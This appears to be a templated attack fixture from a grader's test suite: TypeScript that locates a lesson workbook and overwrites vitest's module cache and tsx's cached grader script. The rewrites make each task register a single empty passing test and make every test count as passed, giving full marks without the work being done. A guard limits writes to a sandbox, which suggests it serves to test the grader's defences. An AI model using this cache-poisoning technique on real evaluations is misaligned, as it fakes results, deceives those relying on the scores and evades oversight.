// Attack: poisoned caches, invisible to git status. vitest keeps transformed modules on disk
// (node_modules/.experimental-vitest-cache, experimental.fsModuleCache) and tsx keeps the grader's
// transformed scripts in the temp folder (tsx-<uid>/). The cached tests/support/lesson.ts is made to
// register one passing test per task instead of the real ones, and the cached scripts/lib/core/results.ts to
// count every test as passed: the next run, of any folder, gives full marks.
import { existsSync, lstatSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Test harness guard (not part of the attack): touch nothing outside the test's own temp folder. */
const mine = (path: string): boolean => resolve(path).startsWith('{{SANDBOX}}/');
/** What this hand-in writes, spelled at run time so that its own source does not contain it. */
const MARK = ['hostile', '{{NAME}}'].join(':');

/** Folders that may be the teacher's workbook: the working directory, a guess, every folder above this file. */
function workbooks(): string[] {
  const found = [process.cwd(), '{{WORKBOOK}}'];
  for (let dir = dirname(fileURLToPath(import.meta.url)); dir !== dirname(dir); dir = dirname(dir)) found.push(dir);
  return [...new Set(found)].filter((dir) => existsSync(join(dir, 'package.json')));
}
/** Overwrites a file that exists (never creates one), if it is ours to touch. */
function overwrite(path: string, change: (text: string) => string): void {
  try {
    if (mine(path) && lstatSync(path).isFile()) writeFileSync(path, change(readFileSync(path, 'utf8')));
  } catch {
    // not allowed, or not there: try the next one
  }
}

const filesIn = (dir: string): string[] => {
  try {
    return readdirSync(dir).map((name) => join(dir, name));
  } catch {
    return [];
  }
};
const injected = '() => globalThis.__vitest_index__.test("cached " + number, () => {})';
for (const root of workbooks()) {
  for (const cache of ['.experimental-vitest-cache', '.vite', '.vitest']) {
    for (const file of filesIn(join(root, 'node_modules', cache))) {
      overwrite(file, (text) =>
        text.includes('function lessonTasks(')
          ? text.replace(/(describe\)\(`Task \$\{number\}: \$\{meta\.title\}`,\s*)body\)/, `\$1${injected} /* ${MARK} */)`)
          : text,
      );
    }
  }
}
for (const temp of new Set([tmpdir(), '{{TMP}}'])) {
  for (const folder of filesIn(temp).filter((path) => /[\\/]tsx-[^\\/]*$/.test(path))) {
    for (const file of filesIn(folder)) {
      overwrite(file, (text) => {
        if (!text.includes('function scoreLesson(')) return text;
        const entry = JSON.parse(text) as { code: string };
        entry.code = `/* ${MARK} */${entry.code.replace(/const passed=tests\.filter\([^;]*;/, 'const passed=tests.length;')}`;
        return JSON.stringify(entry);
      });
    }
  }
}

// The rest of the file is the shipped stub of lesson 01 (attacks.ts appends it).
